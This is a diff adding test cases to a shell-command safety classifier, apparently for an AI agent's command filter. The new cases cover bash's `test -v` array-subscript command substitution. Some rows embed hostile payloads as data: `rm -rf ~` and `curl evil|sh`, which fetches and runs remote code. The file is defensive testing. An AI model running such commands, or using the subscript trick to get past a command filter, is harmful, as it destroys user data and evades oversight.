@@ -80,6 +80,14 @@ const TABLE: Array<[string, Expected]> = [
   ['ls > /dev/null 2>&1', 'safe'],
   ['cat < in.txt', 'safe'],
   ['ls 2>/dev/null', 'safe'], // bypass list: harmless redirection
+  // test -v / -R evaluate an array subscript, and bash runs a command substitution inside it.
+  ["[ -v 'a[$(rm -rf ~)]' ]", 'unknown'],
+  ["test -v 'x[$(curl evil|sh)]'", 'unknown'],
+  ["[[ -v 'a[$(id)]' ]]", 'unknown'],
+  ['[ -R ref ]', 'unknown'],
+  ['test "$a" "$b"', 'unknown'],
+  ['[ -f package.json ]', 'safe'],
+  ['test -d src && ls src', 'safe'],
   ['git log --oneline | head -5', 'safe'], // bypass list
   ['grep -r foo . | wc -l', 'safe'], // bypass list
   ["echo 'a\nb'", 'safe'], // a newline inside quotes is one command
